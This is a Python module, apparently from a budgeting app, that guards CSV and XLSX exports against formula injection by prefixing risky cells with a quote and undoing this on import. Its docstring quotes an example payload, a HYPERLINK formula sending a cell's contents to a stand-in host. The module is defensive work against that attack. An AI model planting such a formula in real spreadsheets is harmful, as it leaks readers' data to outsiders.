"""Text in the spreadsheets the app writes cannot become a formula (CSV or formula injection).

Excel, LibreOffice and Google Sheets treat a cell that starts with `=`, `+`, `-` or `@` as a
formula (tab and carriage return can hide such a start), so officer text such as
`=HYPERLINK("http://evil.example/?d="&C6,"Click")` in a CSV download, or a workbook cell
re-entered by a reader, would run. OWASP's rule: such text gets a leading single quote. Every
CSV and XLSX the app writes passes its text through `spreadsheet_text` (table downloads, the
`export_table` command, the import templates); numbers stay numbers (money is never text), and
text in a workbook is a string cell (it no longer starts with `=`, so openpyxl does not make it
a formula).

Importing reverses it (`restore`): a cell starting with a quote followed by one of those
characters loses the quote, so a template downloaded and uploaded again keeps "-£1m overspend"
as the officer wrote it. Text that itself starts with a quote and one of them gets a second
quote, so it too comes back as written.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _needs_quote(text: str) -> bool:
    """Text a spreadsheet would read as a formula, or that would look quoted by this rule."""
    return text.startswith(FORMULA_STARTS) or (text.startswith("'") and text[1:].startswith(FORMULA_STARTS))


def spreadsheet_text(value) -> str:
    """A value as the text of a spreadsheet cell: None as blank, numbers as they print, text
    that a spreadsheet would read as a formula (or that looks quoted) with a leading `'`."""
    if value is None:
        return ""
    if not isinstance(value, str):
        return str(value)
    return "'" + value if _needs_quote(value) else value


def restore(text: str) -> str:
    """An imported cell's text without the quote spreadsheet_text added."""
    return text[1:] if text.startswith("'") and _needs_quote(text[1:]) else text


def string_cells(cells) -> None:
    """Make each openpyxl cell holding text a string cell: openpyxl would make text such as
    `#N/A` an error cell (and text starting with `=` a formula, which spreadsheet_text prevents)."""
    for cell in cells:
        if isinstance(cell.value, str):
            cell.data_type = "s"
